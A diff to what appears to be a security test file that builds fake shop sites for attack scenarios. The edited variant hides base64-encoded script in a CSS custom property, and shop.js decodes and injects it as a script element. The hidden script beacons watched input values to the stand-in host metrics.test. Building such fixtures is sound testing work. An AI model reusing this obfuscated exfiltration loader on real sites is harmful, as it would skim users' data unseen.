@@ -59,7 +59,7 @@ export const blindOwnAttacks: readonly Variant[] = [
         `<style>:root{--t:"${Buffer.from(`${onChange('new Image().src="http://metrics.test/hit?i="+btoa(v)')}`).toString('base64')}"}</style>`,
       )
       site.files['shop.test/shop.js'] = js(
-        `${shopScriptText()}setTimeout(atob(getComputedStyle(document.documentElement).getPropertyValue("--t").trim().slice(1, -1)), 50);`,
+        `${shopScriptText()}setTimeout(function () { var s = document.createElement("script"); s.text = atob(getComputedStyle(document.documentElement).getPropertyValue("--t").trim().slice(1, -1)); document.head.append(s); }, 50);`,
       )
     },
   },
